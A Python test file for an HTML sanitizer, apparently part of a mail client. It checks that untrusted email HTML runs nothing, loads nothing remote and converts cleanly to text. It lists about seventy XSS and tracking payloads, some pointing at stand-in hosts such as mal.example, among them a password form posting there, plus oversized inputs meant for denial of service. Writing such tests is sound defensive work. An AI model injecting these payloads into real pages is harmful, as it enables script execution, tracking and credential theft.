"""HTML of strangers: nothing in it runs, loads or leads back to us; as text it reads well."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from grc.text import MAX_HTML_CHARS, clean_html, html_to_text, show_images

VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://mal.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "<img src='x' onerror=alert(1)//>",
    '<img """><script>alert(1)</script>">',
    "<img src=`javascript:alert(1)`>",
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<img src="data:text/html,<script>alert(1)</script>">',
    '<img src=" data:image/svg+xml,<svg onload=alert(1)>">',
    '<img data-remote-src="javascript:alert(1)">',
    '<img data-remote-src="https://a.example/&quot; onerror=&quot;alert(1)">',
    '<img srcset="https://pisteur.example/p.gif 1x">',
    '<img lowsrc="https://pisteur.example/p.gif" dynsrc="javascript:alert(1)">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math href='javascript:alert(1)'>x</math>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java&#10;script:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="/agent/sortir">x</a>',
    '<a href="//mal.example">x</a>',
    '<a href="https://bien.example" onclick="alert(1)" target="_self" rel="opener">x</a>',
    '<a href="https://bien.example" style="position:fixed;inset:0">x</a>',
    '<iframe src="https://mal.example"></iframe>',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    '<object data="https://mal.example/x.swf"></object>',
    '<embed src="https://mal.example/x.swf">',
    '<form action="https://mal.example"><input name=p type=password><button>Connexion</button></form>',
    '<base href="https://mal.example/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<link rel="stylesheet" href="https://mal.example/x.css">',
    "<style>@import 'https://mal.example/x.css'; body{background:url(https://pisteur.example/p.gif)}</style>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<div style="width:expression(alert(1))">x</div>',
    '<body onload=alert(1) background="https://pisteur.example/p.gif">x',
    '<table background="https://pisteur.example/p.gif"><td background="javascript:alert(1)">x</table>',
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    '<audio src="https://pisteur.example/p.mp3" autoplay></audio>',
    "<marquee onstart=alert(1)>x</marquee>",
    "<isindex action=javascript:alert(1) type=image>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<textarea><script>alert(1)</script></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<p id=location name=cookie class=modal>x</p>",
    "<portal src='https://mal.example'></portal>",
    "<x onclick=alert(1)>x</x>",
    "<b/onmouseover=alert(1)>x</b>",
    "<\x00script>alert(1)</script>",
    "<p>\ufeff<script\x0b>alert(1)</script>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
]  # fmt: skip
SAFE_TAGS = {
    "a", "abbr", "address", "article", "b", "blockquote", "br", "caption", "center", "cite", "code", "col", "colgroup", "dd", "del", "dl",
    "div", "dt", "em", "figcaption", "figure", "footer", "h1", "h2", "h3", "h4", "h5", "h6", "header", "hr", "i", "img", "ins", "kbd", "li",
    "mark", "ol", "p", "pre", "q", "s", "samp", "section", "small", "strike", "strong", "sub", "sup", "table", "tbody", "td", "tfoot", "th",
    "thead", "tr", "tt", "u", "ul",
}  # fmt: skip
SAFE_ATTRIBUTES = {
    "href", "title", "src", "alt", "width", "height", "data-remote-src", "rel", "target", "dir", "lang", "type", "start", "align", "valign",
    "colspan", "rowspan", "span",
}  # fmt: skip


class _Seen(HTMLParser):
    """Every tag and attribute of a document, as a browser would meet them."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


def _is_safe(html: str) -> None:
    for tag, attributes in _Seen(html).tags:
        assert tag in SAFE_TAGS
        assert set(attributes) <= SAFE_ATTRIBUTES
        if "href" in attributes:
            assert re.match(r"(?:https?|mailto|tel):", attributes["href"] or "", re.IGNORECASE)
            assert attributes["target"] == "_blank"
            assert "noopener" in (attributes["rel"] or "")
        if "src" in attributes:
            assert re.match(r"cid:|data:image/(?:png|jpe?g|gif|webp);base64,", attributes["src"] or "", re.IGNORECASE)
        if "data-remote-src" in attributes:
            assert re.match(r"(?:https?:)?//", attributes["data-remote-src"] or "", re.IGNORECASE)


@pytest.mark.parametrize("vector", VECTORS)
def test_nothing_runs_loads_or_leads_back(vector: str) -> None:
    for html in (vector, f"<p>avant {vector} après</p>", f"<table><tr><td>{vector}", f"<blockquote><pre>{vector}"):
        cleaned = clean_html(html)
        _is_safe(cleaned)
        assert clean_html(cleaned) == cleaned
        _is_safe(show_images(cleaned, lambda cid: None))


FRAGMENTS = st.sampled_from(
    [*VECTORS, "<p>", "</p>", "<b>", "<table>", "<td>", "<ul><li>", "&lt;", "&amp;", "&#x41;", '"', "'", "<!--", "-->", "\n", "été"]
)


@given(st.lists(FRAGMENTS | st.text(max_size=15), max_size=8).map("".join))
def test_cleaning_is_safe_and_done_once(html: str) -> None:
    cleaned = clean_html(html)
    _is_safe(cleaned)
    assert clean_html(cleaned) == cleaned
    text = html_to_text(cleaned)
    assert "\x00" not in text
    assert "\n\n\n" not in re.sub(r"(?m)^>+ ?$", "x", text)


def test_pictures_from_elsewhere_wait_until_asked_for() -> None:
    cleaned = clean_html(
        '<img src="https://photos.example/a.png?b=1&amp;c=2" alt="Trou"><img src="//photos.example/b.png"><img src="/agent/x.png">'
    )
    assert " src=" not in cleaned
    assert 'data-remote-src="https://photos.example/a.png?b=1&amp;c=2"' in cleaned
    shown = show_images(cleaned, lambda cid: None, remote=True)
    assert '<img alt="Trou" src="https://photos.example/a.png?b=1&amp;c=2">' in shown
    assert show_images(cleaned, lambda cid: None) == cleaned


def test_pictures_of_the_mail_are_found_by_their_content_id() -> None:
    cleaned = clean_html('<p><img src="cid:photo1@fai.example" alt="Trou"><img src="cid:perdue@fai.example" alt="Perdue"></p>')
    shown = show_images(cleaned, {"photo1@fai.example": '/agent/fichiers/1?a="&b'}.get)
    assert shown == '<p><img alt="Trou" src="/agent/fichiers/1?a=&quot;&amp;b"><img alt="Perdue"></p>'


def test_a_picture_inside_the_page_stays() -> None:
    picture = '<img alt="x" src="data:image/png;base64,iVBORw0KGgo=">'
    assert clean_html(picture) == picture


@pytest.mark.parametrize(
    ("html", "text"),
    [
        ("<p>Bonjour,</p><p>Merci.</p>", "Bonjour,\n\nMerci."),
        ("<div>Bonjour,</div><div><br></div><div>Merci.</div>", "Bonjour,\n\nMerci."),
        ("Un<br>deux<br/><br>trois", "Un\ndeux\n\ntrois"),
        ("<p>Un\n   deux&nbsp;: <b>trois</b> <i>quatre</i></p>", "Un deux\xa0: trois quatre"),
        ("<ul><li>un</li><li>deux<ol><li>a</li><li>b</li></ol></li></ul>", "- un\n- deux\n  1. a\n  2. b"),
        ("<ol><li>un</li><li>deux</li></ol>fin", "1. un\n2. deux\n\nfin"),
        ('<a href="https://a.example/x">ici</a>', "ici <https://a.example/x>"),
        ('<a href="https://a.example/x">https://a.example/x</a>', "https://a.example/x"),
        ('<a href="mailto:m@lue.example">m@lue.example</a>', "m@lue.example"),
        ('<a href="tel:+33500000000">05 00 00 00 00</a>', "05 00 00 00 00 <tel:+33500000000>"),
        ("<table><tr><th>Rue</th><th>N°</th></tr><tr><td>Pins</td><td>12</td></tr></table>", "Rue | N°\nPins | 12"),
        ("<table><tr><td><table><tr><td><p>Bonjour</p><p>Merci</p></td></tr></table></td></tr></table>", "Bonjour\n\nMerci"),
        ("<table><tr><td></td><td>seul</td><td> </td></tr></table>", "seul"),
        ("<blockquote><p>un</p><blockquote>deux</blockquote></blockquote>trois", "> un\n>\n>> deux\n\ntrois"),
        ("<pre>a\n  b\n\nc</pre>", "a\n  b\n\nc"),
        ("<h1>Titre</h1>texte<hr>suite", "Titre\n\ntexte\n\n----------\nsuite"),
        ('<img src="cid:a" alt="Trou &lt;profond&gt;">', "[Trou <profond>]"),
        ("5 &lt; 6 &amp;amp; &eacute;", "5 < 6 &amp; é"),
        ("<p>avant</p><script>x</script><style>y</style><p>après</p>", "avant\n\naprès"),
        ("", ""),
    ],
)
def test_html_reads_as_a_person_would_type_it(html: str, text: str) -> None:
    assert html_to_text(clean_html(html)) == text


@pytest.mark.parametrize(
    "html",
    ["<div>" * 100_000, "<div><p>" * 50_000, "<b><div></b>" * 30_000, "<table><tr><td>" * 30_000, "<div><table></div></table>" * 20_000,
     "<p " + " ".join(f"a{i}=1" for i in range(50_000)) + ">texte", "<font size=1>" * 50_000],
    ids=["div", "div p", "misnested", "tables", "hidden depth", "attributes", "font"],
)  # fmt: skip
def test_a_document_no_person_writes_becomes_plain_text(html: str) -> None:
    cleaned = clean_html(html + "texte")
    assert cleaned.count("<") <= 2 or "texte" in cleaned
    assert html_to_text(cleaned).endswith("texte")


def test_a_document_too_long_is_cut() -> None:
    cleaned = clean_html("<p>bonjour</p>" * 200_000)
    assert len(cleaned) <= MAX_HTML_CHARS + 10
    assert len(clean_html("&" * 2_000_000)) <= 5 * MAX_HTML_CHARS


def test_a_large_picture_inside_the_page_does_not_push_the_text_out() -> None:
    picture = '<img src="data:image/png;base64,' + "A" * 2_000_000 + '">'
    assert "à la fin" in clean_html(f"<p>avant</p>{picture}<p>à la fin</p>")
